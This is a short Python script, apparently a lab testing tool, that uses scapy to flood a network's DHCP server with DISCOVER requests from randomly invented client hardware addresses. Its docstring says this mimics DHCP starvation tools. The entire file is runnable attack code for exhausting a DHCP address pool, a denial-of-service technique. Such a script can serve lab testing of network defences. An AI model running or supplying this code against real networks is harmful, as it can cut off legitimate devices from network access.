#!/usr/bin/python3
"""Asks for COUNT leases from as many invented hardware addresses, as starvation tools do. Runs in a lab namespace only."""
import random, sys
from scapy.all import BOOTP, DHCP, IP, UDP, Ether, conf, get_if_hwaddr

random.seed(1)
s = conf.L2socket(iface="eth0")
for _ in range(int(sys.argv[1])):
    mac = bytes([random.randrange(256) & 0xFE] + [random.randrange(256) for _ in range(5)])
    s.send(Ether(src=get_if_hwaddr("eth0"), dst="ff:ff:ff:ff:ff:ff") / IP(src="0.0.0.0", dst="255.255.255.255") / UDP(sport=68, dport=67)
           / BOOTP(chaddr=mac, xid=random.getrandbits(32), flags=0x8000) / DHCP(options=[("message-type", 1), "end"]))
